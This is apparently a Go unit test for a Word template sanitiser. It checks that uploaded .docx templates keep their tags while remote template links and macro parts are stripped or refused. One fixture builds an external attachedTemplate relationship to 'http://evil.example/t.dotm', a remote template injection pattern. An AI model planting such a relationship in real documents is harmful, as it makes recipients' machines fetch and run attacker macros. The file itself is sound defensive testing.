package wordtemplate

import (
	"bytes"
	"testing"

	"focal/internal/ooxml"
)

// A template that is handed back holds its tags, and nothing that loads from elsewhere.
func TestSanitised(t *testing.T) {
	settings := `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ` +
		`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
		`<w:attachedTemplate r:id="rId9"/></w:settings>`
	file := docx(t, p("{{name}} and {{#jobs}}{{heading}}{{/jobs}}"),
		"word/_rels/document.xml.rels", relation1("settings", "settings.xml", ""),
		"word/settings.xml", settings,
		"word/_rels/settings.xml.rels", relation1("attachedTemplate", "http://evil.example/t.dotm", external))
	clean, err := Sanitised(file)
	if err != nil {
		t.Fatal(err)
	}
	pkg, err := ooxml.Read(clean, ooxml.TemplateLimits)
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range pkg.Parts {
		if bytes.Contains(part.Data, []byte("evil.example")) || bytes.Contains(part.Data, []byte("attachedTemplate")) {
			t.Errorf("%s: %s", part.Name, part.Data)
		}
	}
	if body, _ := pkg.Get("word/document.xml"); !bytes.Contains(body, []byte("{{#jobs}}{{heading}}{{/jobs}}")) {
		t.Errorf("the tags are gone: %s", body)
	}
	if r := Check(clean); !r.OK {
		t.Errorf("it cannot be uploaded again: %v", r.Problems)
	}
}

// A template whose tags are refused today can be fetched to be mended; what runs code stays away.
func TestSanitisedIsForMending(t *testing.T) {
	file := docx(t, p("{{name}} and {{#jobs}}{{heading}}"))
	if _, err := Parse(file); err == nil {
		t.Fatal("the tags are right")
	}
	if _, err := Sanitised(file); err != nil {
		t.Error(err)
	}
	if _, err := Sanitised(docx(t, p("{{name}}"), "word/vbaProject.bin", "x")); err == nil {
		t.Error("macros are handed back")
	}
}
